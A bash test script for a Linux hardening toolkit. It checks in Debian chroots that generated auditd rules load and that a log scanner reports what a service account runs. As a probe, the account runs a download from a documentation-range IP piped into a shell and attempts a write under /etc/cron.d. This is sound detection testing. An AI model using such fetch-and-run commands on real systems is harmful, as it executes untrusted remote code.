#!/usr/bin/env bash
# shellcheck disable=SC2016 # jq filters are single-quoted on purpose
# svcacct's audit rules (/etc/audit/rules.d/hardkit-NAME.rules: what the
# service account runs and writes outside its own directories) judged by
# each release's own auditctl: in a copy of the cached Debian 12, 13 and
# testing roots, auditd is installed with the root's apt, svcacct apply sets
# up an agent, and the root's auditctl loads the file, chrooted into the
# root so that its `dir=` paths are the root's. Every line must load (the
# kernel refuses a dir= rule for a missing directory, and auditctl stops at
# the first refused line), and `auditctl -l` must list them back. The kernel's
# audit rules are global: the test loads them under keys of its own and
# deletes exactly those (also on exit); audit stays as it was (enabled or
# not).
#
# Then the account acts, and each release's own auditd records it: the
# root's auditd runs chrooted (it writes the root's /var/log/audit), the
# account (setpriv to its uid, chrooted) runs a download piped into a shell,
# a program with quotes, a newline and a tab in its arguments, a refused
# write under /etc and an allowed one under /srv. logscan audit must give
# back exactly the argument vectors that were run (auditd hex-encodes some),
# and agree with the root's own ausearch on every event of both keys
# (program and result); the findings name the shell, the download and the
# writes. The kernel takes one audit daemon: when another one runs on this
# machine, this part says so and is not run. Needs root and the network to
# Debian's archive.
set -euo pipefail
# shellcheck source=scripts/tests/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

[[ $(id -u) -eq 0 ]] || not_run audit-rules "needs root (chroot, the kernel's audit rules)"
command -v debootstrap >/dev/null || not_run audit-rules "debootstrap is not installed (scripts/test --install-oracles)"
build_tools

tmp=$(mktemp -d)
key=hardkit-test-$$
loaded=()
# The audit daemon the kernel talks to now (0: none), and whether auditing
# is enabled: the live part runs only without another daemon, and puts
# "enabled" back.
# (asked with the first root's auditctl: this machine may have none)
audit_root=""
audit_status() { in_chroot "$audit_root" auditctl -s 2>/dev/null | awk -v k="$1" '$1 == k { print $2 }'; }
daemon_before=""
enabled_before=""
daemon=""
stop_daemon() {
    local pid
    [[ -n $daemon ]] || return 0
    pid=$(audit_status pid)
    [[ -n $pid && $pid != 0 ]] && kill -TERM "$pid" 2>/dev/null
    wait "$daemon" 2>/dev/null || true
    daemon=""
}
cleanup() {
    local r
    stop_daemon
    [[ -n $enabled_before ]] && in_chroot "$audit_root" auditctl -e "$enabled_before" >/dev/null 2>&1
    for r in "${loaded[@]}"; do
        in_chroot "$r" auditctl -D -k "$key-exec" >/dev/null 2>&1 || true
        in_chroot "$r" auditctl -D -k "$key-write" >/dev/null 2>&1 || true
    done
    debian_base_cleanup
    rm -rf "$tmp"
}
# (HARDKIT_KEEP=1: the roots and logs stay in $tmp, mounted, to look at)
if [[ ${HARDKIT_KEEP:-} == 1 ]]; then
    echo "keeping $tmp" >&2
else
    trap cleanup EXIT
fi

# live_audit SUITE ROOT UID VERSION: with the test's rules loaded, the
# root's own auditd records what the account does; logscan reads it back.
live_audit() {
    local suite=$1 r=$2 uid=$3 version=$4 log pid i
    if [[ -n $daemon_before && $daemon_before != 0 ]]; then
        echo "!!! $suite: an audit daemon (pid $daemon_before) runs on this machine: the live part (the root's own auditd recording the account) is not run" >&2
        return 0
    fi
    log=$r/var/log/audit/audit.log
    rm -f "$log"
    install -d -o "$uid" -m 0755 "$r/srv/hkprobe"
    in_chroot "$r" auditd -n -s enable >"$tmp/auditd.out" 2>&1 &
    daemon=$!
    for ((i = 0; i < 100; i++)); do
        pid=$(audit_status pid)
        [[ -n $pid && $pid != 0 ]] && break
        sleep 0.1
    done
    if [[ -z $pid || $pid == 0 ]]; then
        fail "$suite: auditd $version did not start: $(head -c 300 "$tmp/auditd.out")"
        stop_daemon
        return 0
    fi
    # What the account runs: absolute paths everywhere (a search along PATH
    # is a string of refused execve calls, each an event too).
    local as=(setpriv --reuid="$uid" --regid="$uid" --clear-groups)
    in_chroot "$r" "${as[@]}" /bin/sh -c '/usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh | /bin/sh' >/dev/null 2>&1 || true
    in_chroot "$r" "${as[@]}" /usr/bin/touch /etc/cron.d/hk-probe >/dev/null 2>&1 || true
    in_chroot "$r" "${as[@]}" /bin/sh -c 'echo x >/srv/hkprobe/out' || true
    in_chroot "$r" "${as[@]}" /bin/echo 'a "quoted" arg' $'two\nlines' $'tab\there' >/dev/null
    # The last one as the marker: once it is in the log, so is the rest.
    for ((i = 0; i < 100; i++)); do
        grep -q 'proctitle=2F62696E2F6563686F' "$log" 2>/dev/null && break
        sleep 0.1
    done
    stop_daemon
    check "$suite: auditd $version wrote the account's events ($(grep -c "key=\"$key-" "$log" 2>/dev/null || echo 0) records with the test's keys)" \
        grep -q "key=\"$key-exec\"" "$log"
    "$HARDKIT_BIN_DIR/logscan" audit --root "$r" --json /var/log/audit/audit.log >"$tmp/audit.jsonl" 2>"$tmp/audit.err" || true
    expect_jsonl "$tmp/audit.jsonl" "$suite: logscan audit --json"
    local account=${key#hardkit-}
    local want got
    want=$(jq -cn '[["/bin/sh","-c","/usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh | /bin/sh"],
        ["/usr/bin/curl","-fsS","--max-time","1","http://203.0.113.45/x.sh"], ["/bin/sh"],
        ["/usr/bin/touch","/etc/cron.d/hk-probe"], ["/bin/sh","-c","echo x >/srv/hkprobe/out"],
        ["/bin/echo","a \"quoted\" arg","two\nlines","tab\there"]] | sort')
    got=$(jq -cs --arg a "$account" '[.[] | select(.type == "agent_exec" and .account == $a) | .argv] | sort' "$tmp/audit.jsonl")
    check "$suite: logscan gives back exactly the commands the account ran (got: $got)" [ "$got" == "$want" ]
    # The root's own ausearch, on the same log: program and result of every
    # event of each key, against logscan's.
    local k ours theirs
    for k in exec write; do
        theirs=$(in_chroot "$r" ausearch -if /var/log/audit/audit.log -k "$key-$k" --format csv 2>/dev/null |
            awk -F, '$2 == "SYSCALL" { print $16, ($12 == "success" ? "true" : "false") }' | sort)
        ours=$(jq -r --arg a "$account" --arg t "agent_$k" 'select(.type == $t and .account == $a) | "\(.exe) \(.success)"' "$tmp/audit.jsonl" | sort)
        check "$suite: ausearch $version and logscan agree on the $k events ($(wc -l <<<"$theirs") by ausearch; differ: $(diff <(echo "$theirs") <(echo "$ours") | grep '^[<>]' | tr '\n' ' '))" \
            [ -n "$theirs" ] && [ "$theirs" == "$ours" ]
    done
    check "$suite: the refused write under /etc is recorded as refused" \
        has "$tmp/audit.jsonl" --arg a "$account" '.type == "agent_write" and .account == $a and .success == false and any(.paths[]; startswith("/etc/cron.d"))'
    check "$suite: the write under /srv is recorded as done" \
        has "$tmp/audit.jsonl" --arg a "$account" '.type == "agent_write" and .account == $a and .success == true and any(.paths[]; . == "/srv/hkprobe/out")'
    local id
    for id in logscan/agent-shell logscan/agent-download logscan/agent-system-write; do
        check "$suite: finding $id" has "$tmp/audit.jsonl" --arg id "$id" '.type == "finding" and .id == $id'
    done
}

for suite in bookworm trixie forky; do
    r=$tmp/$suite
    debian_base "$suite" "$r" || { fail "$suite: no cached root"; continue; }
    if ! root_apt_install "$r" "$tmp/install.log" auditd curl; then
        fail "$suite: apt-get install auditd failed: $(tail -n3 "$tmp/install.log")"
        continue
    fi
    if ! in_chroot "$r" auditctl -s >/dev/null 2>&1; then
        not_run audit-rules "the kernel has no audit support here (auditctl -s fails)"
    fi
    version=$(in_chroot "$r" dpkg-query -W -f '${Version}' auditd)
    if [[ -z $audit_root ]]; then
        audit_root=$r
        daemon_before=$(audit_status pid)
        enabled_before=$(audit_status enabled)
    fi
    "$HARDKIT_BIN_DIR/svcacct" apply --root "$r" agent --exec "/usr/bin/python3 /var/lib/agent/app/loop.py" --json >"$tmp/apply.jsonl" 2>"$tmp/apply.err" ||
        { fail "$suite: svcacct apply: $(cat "$tmp/apply.err")"; continue; }
    rules=$r/etc/audit/rules.d/hardkit-agent.rules
    check "$suite: svcacct writes /etc/audit/rules.d/hardkit-agent.rules (auditd is installed)" \
        has "$tmp/apply.jsonl" '.type == "action" and .op == "write" and .path == "/etc/audit/rules.d/hardkit-agent.rules"'
    uid=$(awk -F: '$1 == "agent" { print $3 }' "$r/etc/passwd")
    check "$suite: the rules name the account's uid ($uid)" grep -q -- "-F uid=$uid " "$rules"
    "$HARDKIT_BIN_DIR/svcacct" audit --root "$r" --json agent >"$tmp/audited.jsonl" 2>&1 || true
    check "$suite: svcacct audit: the agent's commands are recorded (no svcacct/agent-unaudited)" \
        jq_quiet -s -e 'any(.[]; .type == "exposure") and all(.[]; .id != "svcacct/agent-unaudited")' "$tmp/audited.jsonl"
    mv "$rules" "$tmp/rules.kept"
    "$HARDKIT_BIN_DIR/svcacct" audit --root "$r" --json agent >"$tmp/unaudited.jsonl" 2>&1 || true
    check "$suite: ... and without the rules file it is a finding" \
        has "$tmp/unaudited.jsonl" '.type == "finding" and .id == "svcacct/agent-unaudited" and (.title | contains("no audit rule names agent"))'
    mv "$tmp/rules.kept" "$rules"
    # Under the test's own keys, chrooted into the root (dir= paths are the
    # root's), with the root's own auditctl.
    sed "s/-k hardkit-agent-/-k $key-/" "$rules" >"$r/tmp/hardkit-test.rules"
    want=$(grep -c '^-a ' "$rules")
    loaded+=("$r")
    rc=0
    in_chroot "$r" auditctl -R /tmp/hardkit-test.rules >"$tmp/load.out" 2>&1 || rc=$?
    expect_status 0 "$rc" "$suite: auditctl $version loads every line ($(head -c 200 "$tmp/load.out"))"
    check "$suite: ... without a warning (got: $(head -c 200 "$tmp/load.out"))" [ ! -s "$tmp/load.out" ]
    got=$(in_chroot "$r" auditctl -l | grep -c -- "key=$key-" || true)
    check "$suite: auditctl -l lists the $want rules back (got $got)" [ "$got" == "$want" ]
    check "$suite: ... the exec rules for both ABIs" \
        bash -c '[ "$(grep -c -- "-S execve,execveat -F uid=$2 -F key=$3-exec" <<<"$1")" == 2 ]' _ "$(in_chroot "$r" auditctl -l)" "$uid" "$key"
    live_audit "$suite" "$r" "$uid" "$version"
    in_chroot "$r" auditctl -D -k "$key-exec" >/dev/null
    in_chroot "$r" auditctl -D -k "$key-write" >/dev/null
    check "$suite: the test's rules are gone again" bash -c '! grep -q -- "key=$2-" <<<"$1"' _ "$(in_chroot "$r" auditctl -l)" "$key"
    # Why only existing directories: a dir= rule for a missing one is
    # refused, and auditctl loads nothing after it.
    printf -- '-a always,exit -F dir=/nonexistent-hardkit -F perm=wa -F uid=%s -k %s-write\n-a always,exit -F arch=b64 -S execve -F uid=%s -k %s-exec\n' \
        "$uid" "$key" "$uid" "$key" >"$r/tmp/hardkit-missing.rules"
    rc=0
    in_chroot "$r" auditctl -R /tmp/hardkit-missing.rules >/dev/null 2>&1 || rc=$?
    check "$suite: a dir= rule for a missing directory is refused (exit $rc), and what follows it is not loaded" \
        bash -c '[ "$1" != 0 ] && ! grep -q -- "key=$3-exec" <<<"$2"' _ "$rc" "$(in_chroot "$r" auditctl -l)" "$key"
    in_chroot "$r" auditctl -D -k "$key-exec" >/dev/null 2>&1 || true
    in_chroot "$r" auditctl -D -k "$key-write" >/dev/null 2>&1 || true
done

finish audit-rules
